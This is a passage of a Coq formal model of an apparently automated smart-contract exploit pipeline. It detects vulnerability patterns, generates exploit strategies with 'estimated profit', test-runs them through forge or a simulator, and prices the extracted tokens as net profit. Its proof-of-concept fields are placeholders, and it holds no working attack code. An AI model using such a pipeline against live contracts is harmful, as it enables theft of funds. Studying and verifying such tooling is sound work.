     proofOfConcept := "// Exploit would target specific unchecked calls";
     estimatedProfit := "Low to Medium";
     requirements := ["External calls without return value checks"];
     steps := ["Identify unchecked calls"; "Cause call failures"; "Exploit logic flaws"] |}.

Definition generateFlashLoanExploit (vulnerability : Vulnerability) : Strategy :=
  {| type := flashLoan;
     severity := "medium";
     confidence := v_confidence vulnerability;
     description := "Flash loan arbitrage/manipulation exploit";
     proofOfConcept := "// Flash loan exploit targeting specific arbitrage opportunities";
     estimatedProfit := "High";
     requirements := ["Flash loan availability"; "Arbitrage or manipulation opportunity"];
     steps := ["Identify arbitrage opportunity"; "Calculate optimal loan amount";
               "Execute flash loan strategy"] |}.

(** The [strategies] dispatch table: a generator for each of the seven
    categories, so the lookup never comes back empty. *)
Definition generateExploitStrategy (vulnerability : Vulnerability) : option Strategy :=
  Some (match v_type vulnerability with
        | reentrancy => generateReentrancyExploit vulnerability
        | delegateCall => generateDelegateCallExploit vulnerability
        | accessControl => generateAccessControlExploit vulnerability
        | integerOverflow => generateOverflowExploit vulnerability
        | priceOracle => generatePriceOracleExploit vulnerability
        | uncheckedCall => generateUncheckedCallExploit vulnerability
        | flashLoan => generateFlashLoanExploit vulnerability
        end).

(** The loop of [execute] that collects the strategies. *)
Definition exploitStrategiesOf (vulnerabilities : list Vulnerability) : list Strategy :=
  flat_map
    (fun vulnerability =>
       match generateExploitStrategy vulnerability with
       | Some strategy => [strategy]
       | None => []
       end)
    vulnerabilities.

(** [strategies.reduce((best, current) =>
       current.confidence > best.confidence ? current : best)]
    on a list that is not empty: its head, then its tail. *)
Definition better (best current : Strategy) : Strategy :=
  if gt (confidence current) (confidence best) then current else best.

Definition bestStrategyOf (first : Strategy) (rest : list Strategy) : Strategy :=
  fold_left better rest first.

(** The execution harness, as [execute] meets it: whether forge was
    found, what a run of it comes to, and the random draws of the
    simulator. *)
Record Harness : Type := {
  forgeAvailable : bool;
  forgeRun : ForgeService.ForgeRun;
  random : ForgeService.Random
}.

Variable Number_toString : Q -> string.

(** [executeExploitStrategy]: the six fields copied from the test result;
    an error thrown by the harness is caught and reported as a failure. *)
Definition executeExploitStrategy (h : Harness) (strategy : Strategy)
  (contractAddress : string) (chainId : Z) (blockNumber : option string) : JsObject :=
  match ForgeService.testExploit Number_toString (forgeAvailable h) (forgeRun h) (random h)
          {| ForgeService.contractAddress := contractAddress;
             ForgeService.chainId := chainId;
             ForgeService.blockNumber :=
               match blockNumber with
               | Some b => if String.eqb b EmptyString then "latest" else b
               | None => "latest"
               end;
             ForgeService.exploitCode := proofOfConcept strategy;
             ForgeService.strategy := strategy |} with
  | Ok testResult =>
      [ ("success", get "success" testResult);
        ("gasUsed", get "gasUsed" testResult);
        ("profit", get "profit" testResult);
        ("extractedTokens", get "extractedTokens" testResult);
        ("trace", get "trace" testResult);
        ("errorMessage", get "errorMessage" testResult) ]
  | Throw message =>
      [ ("success", JBool false);
        ("errorMessage", JStr message);
        ("gasUsed", JNum (lit 0));
        ("profit", JNum (lit 0));
        ("extractedTokens", JTokens []);
        ("trace", JStrings []) ]
  end.

(** What [execute] returns, by the [return] that produces it. *)
Inductive Output : Type :=
| NoVulnerabilities
    (* exploitFound: false, vulnerabilities: [], message *)
| NoStrategies (vulnerabilities : list Vulnerability)
    (* exploitFound: false, vulnerabilities, message *)
| Executed (bestStrategy : Strategy) (executionResult : JsObject)
    (vulnerabilities : list Vulnerability) (allStrategies : list Strategy).

Definition execute (h : Harness) (args : Args) : Result Output :=
  let! args := parseArgs args in
  let vulnerabilities := analyzeForVulnerabilities (sourceCode args) in
  match vulnerabilities with
  | [] => Ok NoVulnerabilities
  | _ =>
      match exploitStrategiesOf vulnerabilities with
      | [] => Ok (NoStrategies vulnerabilities)
      | first :: rest =>
          let bestStrategy := bestStrategyOf first rest in
          let executionResult :=
            executeExploitStrategy h bestStrategy (contractAddress args) (chainId args)
              (blockNumber args) in
          Ok (Executed bestStrategy executionResult vulnerabilities (first :: rest))
      end
  end.

(** The fields of the returned object that the orchestrator reads. *)
Definition exploitFound (o : Output) : JsValue :=
  match o with
  | Executed _ executionResult _ _ => get "success" executionResult
  | _ => JBool false
  end.

Definition extractedTokens (o : Output) : JsValue :=
  match o with
  | Executed _ executionResult _ _ =>
      if truthyValue (get "extractedTokens" executionResult)
      then get "extractedTokens" executionResult else JTokens []
  | _ => JUndefined
  end.

Definition selected (o : Output) : option Strategy :=
  match o with
  | Executed bestStrategy _ _ _ => Some bestStrategy
  | _ => None
  end.

End Scanner.

End ConcreteExecution.

(* ================================================================== *)
(** ** PriceOracleService, as the normaliser meets it *)
(* ================================================================== *)

Module PriceOracleService.

Record TokenPrice : Type := {
  priceUSD : Q;
  priceETH : Q;
  liquidityUSD : Q;
  priceImpact : Q;
  sources : list string;
  confidence : Q
}.

Record TokenMetadata : Type := {
  symbol : string;
  decimals : Z
}.

(** The three calls the normaliser awaits; each resolves or rejects. *)
Record PriceOracle : Type := {
  getNativeTokenPrice : Z -> option string -> Result Q;
  getTokenMetadata : string -> Z -> Result TokenMetadata;
  getTokenPrice : string -> Z -> option string -> Result TokenPrice
}.

End PriceOracleService.

(** The functions of the ethers library and of the language the
    normaliser calls on amounts given as text. *)
Record Library : Type := {
  formatUnits : string -> Z -> Result string;  (* ethers.formatUnits(amount, decimals) *)
  parseUnits : string -> Z -> Result Z;        (* ethers.parseUnits(text, unit) *)
  formatEther : Z -> string;                   (* ethers.formatEther(wei) *)
  parseFloat : string -> Q                     (* parseFloat(text) *)
}.

(* ================================================================== *)
(** ** RevenueNormalizer (server/mcp/tools/revenue-normalizer.ts) *)
(* ================================================================== *)

Module RevenueNormalizer.

Import JsNum.

(** The argument of [execute], as [inputSchema] types it. *)
Record Args : Type := {
  arg_chainId : Z;
  arg_extractedTokens : list Extracted.ExtractedToken;
  arg_blockNumber : option string;
  arg_gasUsed : option Q;
  arg_gasPrice : option string
}.

(** An element of the [extractedTokens] of the result: a normalised
    token, or a token that failed with its error.  A field the object
    literal does not set is [None]. *)
Record NormalizedToken : Type := {
  address : string;
  symbol : option string;
  decimals : option Z;
  amount : string;
  amountDecimal : option Q;
  priceUSD : Q;
  priceETH : Q;
  valueUSD : Q;
  valueETH : Q;
  liquidity : string;
  liquidityUSD : option Q;
  priceImpact : option Q;
  sources : option (list string);
  confidence : option Q;
  error : option string
}.

Record GasCosts : Type := {
  gasUsed : Q;
  gasPrice : string;
  costETH : Q;
  costUSD : Q;
  estimated : bool
}.

Record MarketContext : Type := {
  totalLiquidity : Q;
  averagePriceImpact : Q;
  highLiquidityCount : nat;
  riskTokens : nat
}.

Record Summary : Type := {
  totalTokens : nat;
  successfulNormalizations : nat;
  highLiquidityTokens : nat;
  riskLevel : string
}.

(** The object [execute] returns (its [timestamp] left out). *)
Record Output : Type := {
  chainId : Z;
  blockNumber : string;
  nativeTokenPrice : Q;
  extractedTokens : list NormalizedToken;
  totalValueUSD : Q;
  totalValueETH : Q;
  gasCosts : GasCosts;
  netProfitUSD : Q;
  netProfitETH : Q;
  isProfitable : bool;
  profitabilityRatio : Q;
  marketData : MarketContext;
  summary : Summary
}.

(** Truthiness of an optional text and of an optional number. *)
Definition truthyText (s : option string) : bool :=
  match s with
  | Some t => negb (String.eqb t EmptyString)
  | None => false
  end.

Definition truthyInt (x : option Z) : bool :=
  match x with
  | Some z => negb (z =? 0)%Z
  | None => false
  end.

Section Normalizer.
Context {A : Arith}.
Variable priceOracle : PriceOracleService.PriceOracle.
Variable ethers : Library.

Definition assessLiquidity (liquidityUSD : Q) : string :=
  if gt liquidityUSD (lit 1000000) then "high"
  else if gt liquidityUSD (lit 100000) then "medium"
  else if gt liquidityUSD (lit 10000) then "low"
  else "very-low".

Definition normalizeToken (token : Extracted.ExtractedToken) (chainId : Z)
  (blockNumber : option string) : Result NormalizedToken :=
  let tokenMetadata := (Extracted.symbol token, Extracted.decimals token) in
  let! tokenMetadata :=
    if negb (truthyText (fst tokenMetadata)) || negb (truthyInt (snd tokenMetadata))
    then
      let! fetched :=
        PriceOracleService.getTokenMetadata priceOracle (Extracted.address token) chainId in
      Ok (Some (PriceOracleService.symbol fetched), Some (PriceOracleService.decimals fetched))
    else Ok tokenMetadata in
  let decimals :=
    match snd tokenMetadata with
    | Some d => if (d =? 0)%Z then 18%Z else d
    | None => 18%Z
    end in
  let! amountDecimal := formatUnits ethers (Extracted.amount token) decimals in
  let! priceData :=
    PriceOracleService.getTokenPrice priceOracle (Extracted.address token) chainId blockNumber in
  let valueUSD := mul (parseFloat ethers amountDecimal) (PriceOracleService.priceUSD priceData) in
  let valueETH := mul (parseFloat ethers amountDecimal) (PriceOracleService.priceETH priceData) in
  let liquidity := assessLiquidity (PriceOracleService.liquidityUSD priceData) in
  Ok {| address := Extracted.address token;
        symbol := fst tokenMetadata;
        decimals := Some decimals;
        amount := Extracted.amount token;
        amountDecimal := Some (Number_toFixed 6 (parseFloat ethers amountDecimal));
        priceUSD := Number_toFixed 6 (PriceOracleService.priceUSD priceData);
        priceETH := Number_toFixed 10 (PriceOracleService.priceETH priceData);
        valueUSD := Number_toFixed 2 valueUSD;
        valueETH := Number_toFixed 6 valueETH;
        liquidity := liquidity;
        liquidityUSD := Some (PriceOracleService.liquidityUSD priceData);
        priceImpact := Some (PriceOracleService.priceImpact priceData);
        sources := Some (PriceOracleService.sources priceData);
        confidence := Some (PriceOracleService.confidence priceData);
        error := None |}.

(** The entry pushed when [normalizeToken] throws: the token itself with
    zero values, the message of the error and the liquidity 'unknown'. *)
Definition failedToken (token : Extracted.ExtractedToken) (message : string) : NormalizedToken :=
  {| address := Extracted.address token;
     symbol := Extracted.symbol token;
     decimals := Extracted.decimals token;
     amount := Extracted.amount token;
     amountDecimal := None;
     priceUSD := lit 0;
     priceETH := lit 0;
     valueUSD := lit 0;
     valueETH := lit 0;
     liquidity := "unknown";
     liquidityUSD := None;
     priceImpact := None;
     sources := None;
     confidence := None;
     error := Some message |}.

(** [BigInt(gasUsed)]: a number that is not an integer is refused. *)
Definition BigInt (x : Q) : Result Z :=
  if (Zpos (Qden (Qred x)) =? 1)%Z then Ok (Qnum (Qred x))
  else Throw "RangeError: the number cannot be converted to a BigInt because it is not an integer".

(** The costs reported when an input of the gas computation is missing. *)
Definition estimatedCosts (gasUsed : option Q) (gasPrice : option string) : GasCosts :=
  {| gasUsed := match gasUsed with
                | Some used => if truthy used then used else lit 0
                | None => lit 0
                end;
     gasPrice := match gasPrice with
                 | Some price => if truthyText gasPrice then price else "0"
                 | None => "0"
                 end;
     costETH := lit 0;
     costUSD := lit 0;
     estimated := true |}.

Definition calculateGasCosts (gasUsed : option Q) (gasPrice : option string)
  (nativeTokenPrice : Q) : Result GasCosts :=
  match gasUsed, gasPrice with
  | Some used, Some price =>
      if negb (truthy used) || negb (truthyText gasPrice) || negb (truthy nativeTokenPrice)
      then Ok (estimatedCosts gasUsed gasPrice)
      else
        let! gasPriceWei := parseUnits ethers price 9 in
        let! usedInt := BigInt used in
        let gasCostWei := (usedInt * gasPriceWei)%Z in
        let gasCostETH := parseFloat ethers (formatEther ethers gasCostWei) in
        let gasCostUSD := mul gasCostETH nativeTokenPrice in
        Ok {| gasUsed := used;
              gasPrice := price;
              costETH := Number_toFixed 6 gasCostETH;
              costUSD := Number_toFixed 2 gasCostUSD;
              estimated := false |}
  | _, _ => Ok (estimatedCosts gasUsed gasPrice)
  end.

(** [x || 0] and [x && x > bound] on a field that may be missing. *)
Definition orZero (x : option Q) : Q :=
  match x with
  | Some q => if truthy q then q else lit 0
  | None => lit 0
  end.

Definition exceeds (x : option Q) (bound : Q) : bool :=
  match x with
  | Some q => truthy q && gt q bound
  | None => false
  end.

Definition getMarketContext (tokens : list NormalizedToken) : MarketContext :=
  {| totalLiquidity := fold_left (fun sum token => add sum (orZero (liquidityUSD token))) tokens (lit 0);
     averagePriceImpact :=
       match tokens with
       | [] => lit 0
       | _ => div (fold_left (fun sum token => add sum (orZero (priceImpact token))) tokens (lit 0))
                  (inject_Z (Z.of_nat (List.length tokens)))
       end;
     highLiquidityCount := List.length (filter (fun t => String.eqb (liquidity t) "high") tokens);
     riskTokens :=
       List.length
         (filter (fun t => String.eqb (liquidity t) "very-low"
                           || exceeds (priceImpact t) (lit (5 # 100)))
                 tokens) |}.

(** The [riskScore] that [assessRiskLevel] accumulates. *)
Definition riskScore (tokens : list NormalizedToken) (netProfitUSD : Q) : nat :=
  let lowLiquidityTokens :=
    List.length (filter (fun t => String.eqb (liquidity t) "very-low"
                                  || String.eqb (liquidity t) "low") tokens) in
  let highImpactTokens :=
    List.length (filter (fun t => exceeds (priceImpact t) (lit (5 # 100))) tokens) in
  let unknownTokens :=
    List.length (filter (fun t => truthyText (error t) || negb (truthyText (symbol t))) tokens) in
  (lowLiquidityTokens * 2 + highImpactTokens * 3 + unknownTokens * 4
   + (if lt netProfitUSD (lit 1000) then 2 else 0)
   + (if lt netProfitUSD (lit 100) then 3 else 0))%nat.

Definition assessRiskLevel (tokens : list NormalizedToken) (netProfitUSD : Q) : string :=
  let riskScore := riskScore tokens netProfitUSD in
  if (8 <=? riskScore)%nat then "very-high"
  else if (5 <=? riskScore)%nat then "high"
  else if (2 <=? riskScore)%nat then "medium"
  else "low".

(** The state of the loop over the extracted tokens. *)
Record Totals : Type := {
  normalizedTokens : list NormalizedToken;
  sumUSD : Q;
  sumETH : Q
}.

(** One turn of the loop: the token is normalised and added to the
    totals, or, when that throws, recorded with its error. *)
Definition processToken (chainId : Z) (blockNumber : option string)
  (acc : Totals) (token : Extracted.ExtractedToken) : Totals :=
  match normalizeToken token chainId blockNumber with
  | Ok normalizedToken =>
      {| normalizedTokens := normalizedTokens acc ++ [normalizedToken];
         sumUSD := add (sumUSD acc) (valueUSD normalizedToken);
         sumETH := add (sumETH acc) (valueETH normalizedToken) |}
  | Throw message =>
      {| normalizedTokens := normalizedTokens acc ++ [failedToken token message];
         sumUSD := sumUSD acc;
         sumETH := sumETH acc |}
  end.

Definition processTokens (chainId : Z) (blockNumber : option string)
  (tokens : list Extracted.ExtractedToken) : Totals :=
  fold_left (processToken chainId blockNumber) tokens
    {| normalizedTokens := []; sumUSD := lit 0; sumETH := lit 0 |}.

(** The body of the [try] of [execute]. *)
Definition normalize (args : Args) : Result Output :=
  let chainId := arg_chainId args in
  let blockNumber := arg_blockNumber args in
  let! nativeTokenPrice := PriceOracleService.getNativeTokenPrice priceOracle chainId blockNumber in
  let! gasCosts := calculateGasCosts (arg_gasUsed args) (arg_gasPrice args) nativeTokenPrice in
  let totals := processTokens chainId blockNumber (arg_extractedTokens args) in
  let normalizedTokens := normalizedTokens totals in
  let totalValueUSD := sumUSD totals in
  let totalValueETH := sumETH totals in
  let netProfitUSD := sub totalValueUSD (costUSD gasCosts) in
  let netProfitETH := sub totalValueETH (costETH gasCosts) in
  let marketData := getMarketContext normalizedTokens in
  Ok {| chainId := chainId;
        blockNumber := match blockNumber with
                       | Some b => if String.eqb b EmptyString then "latest" else b
                       | None => "latest"
                       end;
        nativeTokenPrice := nativeTokenPrice;
        extractedTokens := normalizedTokens;
        totalValueUSD := Number_toFixed 2 totalValueUSD;
        totalValueETH := Number_toFixed 6 totalValueETH;
        gasCosts := gasCosts;
        netProfitUSD := Number_toFixed 2 netProfitUSD;
        netProfitETH := Number_toFixed 6 netProfitETH;
        isProfitable := gt netProfitUSD (lit 0);
        profitabilityRatio :=
          if gt totalValueUSD (lit 0) then Number_toFixed 4 (div netProfitUSD totalValueUSD)
          else lit 0;
        marketData := marketData;
        summary :=
          {| totalTokens := List.length (arg_extractedTokens args);
             successfulNormalizations :=
               List.length (filter (fun t => negb (truthyText (error t))) normalizedTokens);
             highLiquidityTokens :=
               List.length (filter (fun t => String.eqb (liquidity t) "high") normalizedTokens);
             riskLevel := assessRiskLevel normalizedTokens netProfitUSD |} |}.

(** [execute]: the schema check, then the body; whatever the body throws
    is rethrown under the normaliser's own message. *)
Definition execute (args : Args) : Result Output :=
  if (0 <? arg_chainId args)%Z then
    match normalize args with
    | Ok out => Ok out
    | Throw message => Throw ("Revenue normalization failed: " ++ message)
    end
  else Throw "ZodError".

End Normalizer.

End RevenueNormalizer.

(* ================================================================== *)
(** ** McpServer (server/mcp/server.ts) and its storage *)
(* ================================================================== *)

Module McpServer.

(** The configuration of a session. *)
Record Config : Type := {
  contractAddress : string;
  chainId : Z;
  blockNumber : option string
}.

(** The row handed to [storage.createExploitDiscovery]; a field read from
    a result that lacks it is [None]. *)
Record ExploitDiscovery : Type := {
  d_sessionId : string;
  d_contractAddress : string;
  d_chainId : Z;
  d_exploitType : option VulnType;
  d_severity : option string;
  d_confidence : option Q;
  d_valueAtRisk : Q;
  d_proofOfConcept : option string;
  d_description : option string;
  d_validated : bool
}.

(** The storage: the updates of the status of a session that the
    database has taken, the last first, and the discoveries. *)
Record Storage : Type := {
  sessionStatus : list (string * string);
  exploitDiscoveries : list ExploitDiscovery
}.

(** The storage after an update of a status that the database takes. *)
Definition written (sessionId status : string) (st : Storage) : Storage :=
  {| sessionStatus := (sessionId, status) :: sessionStatus st;
     exploitDiscoveries := exploitDiscoveries st |}.

(** The current status of a session: the one written last. *)
Definition statusOf (sessionId : string) (st : Storage) : option string :=
  match find (fun row => String.eqb (fst row) sessionId) (sessionStatus st) with
  | Some row => Some (snd row)
  | None => None
  end.

(** Everything outside the server that an analysis depends on: the four
    tools that run before the execution, the execution harness, the price
    oracle, the library, and whether the database takes a row or the
    update of a session to a status. *)
Record World : Type := {
  source_code_fetcher : Config -> Result string;
  constructor_parameters : Config -> Result JsValue;
  state_reader : Config -> Result JsValue;
  code_sanitizer : string -> Result string;
  harness : ConcreteExecution.Harness;
  Number_toString : Q -> string;
  priceOracle : PriceOracleService.PriceOracle;
  ethers : Library;
  databaseAccepts : ExploitDiscovery -> bool;
  statusAccepts : string -> string -> bool
}.

Section Server.
Context {A : JsNum.Arith}.
Variable world : World.

(** [storage.updateMcpSession(sessionId, { status })], which the
    database may refuse. *)
Definition updateMcpSession (sessionId status : string) (st : Storage) : Result Storage :=
  if statusAccepts world sessionId status then Ok (written sessionId status st)
  else Throw "update of mcp_sessions failed".

Definition createExploitDiscovery (exploit : ExploitDiscovery) (st : Storage) : Result Storage :=
  if databaseAccepts world exploit
  then Ok {| sessionStatus := sessionStatus st;
             exploitDiscoveries := exploitDiscoveries st ++ [exploit] |}
  else Throw "insert into exploit_discoveries failed".

(** Steps 1 to 5 of the pipeline: the result of the execution tool. *)
Definition executionStage (config : Config) : Result ConcreteExecution.Output :=
  let! sourceCode := source_code_fetcher world config in
  let! constructorParams := constructor_parameters world config in
  let! contractState := state_reader world config in
  let! sanitizedCode := code_sanitizer world sourceCode in
  ConcreteExecution.execute (Number_toString world) (harness world)
    {| ConcreteExecution.contractAddress := contractAddress config;
       ConcreteExecution.chainId := chainId config;
       ConcreteExecution.blockNumber := blockNumber config;
       ConcreteExecution.sourceCode := sanitizedCode |}.

(** The revenue tool on the tokens of the exploit result; its schema
    wants an array of tokens. *)
Definition revenueStage (config : Config) (exploitResult : ConcreteExecution.Output) :
  Result RevenueNormalizer.Output :=
  match ConcreteExecution.extractedTokens exploitResult with
  | JTokens tokens =>
      RevenueNormalizer.execute (priceOracle world) (ethers world)
        {| RevenueNormalizer.arg_chainId := chainId config;
           RevenueNormalizer.arg_extractedTokens := tokens;
           RevenueNormalizer.arg_blockNumber := blockNumber config;
           RevenueNormalizer.arg_gasUsed := None;
           RevenueNormalizer.arg_gasPrice := None |}
  | _ => Throw "ZodError"
  end.

Definition executeAnalysisPipeline (sessionId : string) (config : Config) (st : Storage) :
  Result Storage :=
  let! exploitResult := executionStage config in
  if truthyValue (ConcreteExecution.exploitFound exploitResult) then
    let! revenue := revenueStage config exploitResult in
    let best := ConcreteExecution.selected exploitResult in
    createExploitDiscovery
      {| d_sessionId := sessionId;
         d_contractAddress := contractAddress config;
         d_chainId := chainId config;
         d_exploitType := option_map type best;
         d_severity := option_map severity best;
         d_confidence := option_map confidence best;
         d_valueAtRisk := RevenueNormalizer.totalValueUSD revenue;
         d_proofOfConcept := option_map proofOfConcept best;
         d_description := option_map description best;
         d_validated := true |} st
  else Ok st.

(** The [catch] of [startAnalysis]: the status failed is written and the
    error is thrown again, unless the update throws in its turn. *)
Definition failAnalysis (sessionId message : string) (st : Storage) : Result unit * Storage :=
  match updateMcpSession sessionId "failed" st with
  | Ok failed => (Throw message, failed)
  | Throw message' => (Throw message', st)
  end.

(** [startAnalysis]: what its promise settles to, and the storage it
    leaves behind.  The three updates of the status are inside the [try],
    as the pipeline is; a pipeline that throws has written nothing. *)
Definition analysis (sessionId : string) (config : Config) (st : Storage) :
  Result unit * Storage :=
  match updateMcpSession sessionId "running" st with
  | Ok running =>
      match executeAnalysisPipeline sessionId config running with
      | Ok analysed =>
          match updateMcpSession sessionId "completed" analysed with
          | Ok completed => (Ok tt, completed)
          | Throw message => failAnalysis sessionId message analysed
          end
      | Throw message => failAnalysis sessionId message running
      end
  | Throw message => failAnalysis sessionId message st
  end.

(** The storage that [startAnalysis] leaves behind. *)
Definition startAnalysis (sessionId : string) (config : Config) (st : Storage) : Storage :=
  snd (analysis sessionId config st).

End Server.

End McpServer.

(* ================================================================== *)
(** ** Concrete collaborators for the scenarios *)
(* ================================================================== *)

Module Scenario.

Import JsNum.

(** The arithmetic of the engine, or the exact one. *)
Definition arith (exact : bool) : Arith := if exact then Exact else Binary64.

Definition digit (n : Z) : ascii := ascii_of_nat (48 + Z.to_nat n).

(** The decimal digits of a natural number. *)
Fixpoint digitsOf (fuel : nat) (n : Z) (acc : list ascii) : list ascii :=
  match fuel with
  | O => acc
  | S fuel' =>
      if (n <? 10)%Z then digit n :: acc
      else digitsOf fuel' (n / 10) (digit (n mod 10) :: acc)
  end.

Definition natural (n : Z) : list ascii := digitsOf (S (Z.to_nat (Z.log2 n))) n [].

(** [k] digits of a fraction below one, without the zeros that end it. *)
Fixpoint fraction (k : nat) (q : Q) : list ascii :=
  match k with
  | O => []
  | S k' =>
      if Qeq_bool q 0 then []
      else let d := Qfloor (q * 10) in digit d :: fraction k' (Qred (q * 10 - inject_Z d))
  end.

(** A printer of numbers: exact on a decimal of at most 20 fraction digits. *)
Definition printNumber (q : Q) : string :=
  let a := Qabs q in
  let whole := Qfloor a in
  let frac := fraction 20 (Qred (a - inject_Z whole)) in
  string_of_list_ascii
    ((if Qle_bool 0 q then [] else ["-"%char])
     ++ natural whole
     ++ match frac with [] => [] | _ => "."%char :: frac end).

(** A text of decimal digits only, as an integer. *)
Definition parseInteger (s : string) : option Z :=
  match list_ascii_of_string s with
  | [] => None
  | ds => if forallb Regex.isDigit ds then Some (ForgeService.parseDigits ds) else None
  end.

(** A decimal numeral [whole] or [whole.fraction], as a rational. *)
Definition parseDecimal (s : string) : Q :=
  let cs := list_ascii_of_string s in
  let whole := (fix take (l : list ascii) : list ascii :=
                  match l with
                  | c :: l' => if Regex.isDigit c then c :: take l' else []
                  | [] => []
                  end) cs in
  let frac := match skipn (List.length whole) cs with
              | _ :: f => f
              | [] => []
              end in
  Qred (inject_Z (ForgeService.parseDigits (whole ++ frac))
        / inject_Z (10 ^ Z.of_nat (List.length frac))).

(** The library: amounts are texts of decimal digits, anything else is
    refused; units are powers of ten. *)
Definition library (A : Arith) : Library :=
  {| formatUnits := fun amount decimals =>
       match parseInteger amount with
       | Some n => Ok (printNumber (inject_Z n / inject_Z (10 ^ decimals)))
       | None => Throw "invalid BigNumberish string"
       end;
     parseUnits := fun text unit =>
       match parseInteger text with
       | Some n => Ok (n * 10 ^ unit)%Z
       | None => Throw "invalid FixedNumber string value"
       end;
     formatEther := fun wei => printNumber (inject_Z wei / inject_Z (10 ^ 18));
     parseFloat := fun text => @rnd A (parseDecimal text) |}.

(** A price oracle that quotes every token at [price] dollars, in a deep
    market, on a chain whose native token is worth [native] dollars; the
    metadata it finds on chain are the symbol [sym] and 18 decimals. *)
Definition oracle (A : Arith) (native price : Q) (sym : string) : PriceOracleService.PriceOracle :=
  {| PriceOracleService.getNativeTokenPrice := fun _ _ => Ok (@lit A native);
     PriceOracleService.getTokenMetadata := fun _ _ =>
       Ok {| PriceOracleService.symbol := sym; PriceOracleService.decimals := 18 |};
     PriceOracleService.getTokenPrice := fun _ _ _ =>
       Ok {| PriceOracleService.priceUSD := @lit A price;
             PriceOracleService.priceETH := @div A (@lit A price) (@lit A native);
             PriceOracleService.liquidityUSD := @lit A 2000000;
             PriceOracleService.priceImpact := @lit A (1 # 100);
             PriceOracleService.sources := ["Chainlink"; "DEX"];
             PriceOracleService.confidence := @lit A 100 |} |}.

Definition token (amount : string) (symbol : option string) (decimals : option Z) :
  Extracted.ExtractedToken :=
  {| Extracted.address := "0xdAC17F958D2ee523a2206206994597C13D831ec7";
     Extracted.amount := amount;
     Extracted.symbol := symbol;
     Extracted.decimals := decimals |}.

End Scenario.

(** A harness without forge: the simulator runs, on the given draws. *)
Module Fixture.

Definition simulator (r1 r2 r3 : Q) : ConcreteExecution.Harness :=
  {| ConcreteExecution.forgeAvailable := false;
     ConcreteExecution.forgeRun := ForgeService.CommandFailed "spawn forge ENOENT";
     ConcreteExecution.random :=
       {| ForgeService.draw1 := r1; ForgeService.draw2 := r2; ForgeService.draw3 := r3 |} |}.

(** A harness with forge, whose test run prints [stdout]. *)
Definition sandbox (stdout : string) : ConcreteExecution.Harness :=
  {| ConcreteExecution.forgeAvailable := true;
     ConcreteExecution.forgeRun := ForgeService.TestOutput stdout EmptyString;
     ConcreteExecution.random :=
       {| ForgeService.draw1 := 0; ForgeService.draw2 := 0; ForgeService.draw3 := 0 |} |}.

Definition delegateCallStrategy (A : JsNum.Arith) : Strategy :=
  @ConcreteExecution.generateDelegateCallExploit
    {| v_type := delegateCall; v_severity := "critical";
       v_description := "Dangerous delegatecall usage detected";
       v_matches := 1; v_confidence := @JsNum.lit A 64 |}.

Definition testParams (A : JsNum.Arith) : ForgeService.TestParams :=
  {| ForgeService.contractAddress := "0x00000000000000000000000000000000000000aa";
     ForgeService.chainId := 1;
     ForgeService.blockNumber := "latest";
     ForgeService.exploitCode := proofOfConcept (delegateCallStrategy A);
     ForgeService.strategy := delegateCallStrategy A |}.

End Fixture.

(** The tables that the proofs check entry by entry. *)
Module Checks.

Definition allTypes : list VulnType :=
  [ reentrancy; integerOverflow; accessControl; delegateCall;
    uncheckedCall; priceOracle; flashLoan ].

Definition within_5_95 (q : Q) : bool := Qle_bool 5 q && Qle_bool q 95.

(** The vulnerability of a category, on the counts of its matches and of
    the protective matches. *)
Definition vulnerabilityOn {A : JsNum.Arith} (t : VulnType) (severity description : string)
  (n p : nat) : Vulnerability :=
  {| v_type := t; v_severity := severity; v_description := description;
     v_matches := n; v_confidence := ConcreteExecution.confidenceOf t n p |}.

(** Every confidence that can arise, of a finding and of its strategy,
    checked one by one: seven categories, one to three counted matches,
    zero to four counted protective matches. *)
Definition confidenceTable (exact : bool) : bool :=
  forallb (fun t =>
    forallb (fun n =>
      forallb (fun p =>
        let v := @vulnerabilityOn (Scenario.arith exact) t EmptyString EmptyString n p in
        within_5_95 (v_confidence v)
        && match @ConcreteExecution.generateExploitStrategy (Scenario.arith exact) v with
           | Some s => within_5_95 (confidence s)
           | None => true
           end)
        [0; 1; 2; 3; 4]%nat)
      [1; 2; 3]%nat)
    allTypes.

(** The precedence of the categories that the specification fixes:
    reentrancy, integerOverflow, accessControl, delegateCall,
    uncheckedCall, priceOracle, flashLoan. *)
Definition precedence (t : VulnType) : nat :=
  match t with
  | reentrancy => 0
  | integerOverflow => 1
  | accessControl => 2
  | delegateCall => 3
  | uncheckedCall => 4
  | priceOracle => 5
  | flashLoan => 6
  end.

(** The finding of Scenario A of the specification. *)
Definition delegateCallFinding : Vulnerability :=
  {| v_type := delegateCall;
     v_severity := "critical";
     v_description := "Dangerous delegatecall usage detected";
     v_matches := 1;
     v_confidence := 64 |}.

(** The text has exactly one occurrence of the delegatecall signature. *)
Definition oneDelegateCall (sourceCode : string) : Prop :=
  option_map (@List.length string) (Regex.matchAll (Regex.lit "delegatecall") sourceCode)
  = Some 1%nat.

Definition isDelegateCall (v : Vulnerability) : bool := VulnType_eqb (v_type v) delegateCall.



End Checks.

(** The composite risk score as the specification words it, and as a sum
    of what each token contributes. *)
Module RiskSpec.

Import RevenueNormalizer.

Section Score.
Context {A : JsNum.Arith}.

Definition countIf {T : Type} (p : T -> bool) (l : list T) : nat :=
  List.length (filter p l).

(** liquidity in {low, very-low} *)
Definition lowLiquidity (t : NormalizedToken) : bool :=
  String.eqb (liquidity t) "low" || String.eqb (liquidity t) "very-low".

(** priceImpact > 0.05 *)
Definition highImpact (t : NormalizedToken) : bool :=
  exceeds (priceImpact t) (JsNum.lit (5 # 100)).

(** error present *)
Definition errorPresent (t : NormalizedToken) : bool :=
  match error t with
  | Some _ => true
  | None => false
  end.

(** (2 if netProfitUSD < 1000) + (3 if netProfitUSD < 100) *)
Definition profitTerm (netProfitUSD : Q) : nat :=
  ((if JsNum.lt netProfitUSD (JsNum.lit 1000) then 2 else 0)
   + (if JsNum.lt netProfitUSD (JsNum.lit 100) then 3 else 0))%nat.

(** The score in the words of the specification. *)
Definition specRiskScore (tokens : list NormalizedToken) (netProfitUSD : Q) : nat :=
  (2 * countIf lowLiquidity tokens + 3 * countIf highImpact tokens
   + 4 * countIf errorPresent tokens + profitTerm netProfitUSD)%nat.

(** >= 8 very-high, >= 5 high, >= 2 medium, else low *)
Definition specRiskLevel (score : nat) : string :=
  if (8 <=? score)%nat then "very-high"
  else if (5 <=? score)%nat then "high"
  else if (2 <=? score)%nat then "medium"
  else "low".

(** A token counts as unknown when it carries an error message that is
    not empty, or when it has no symbol or an empty one. *)
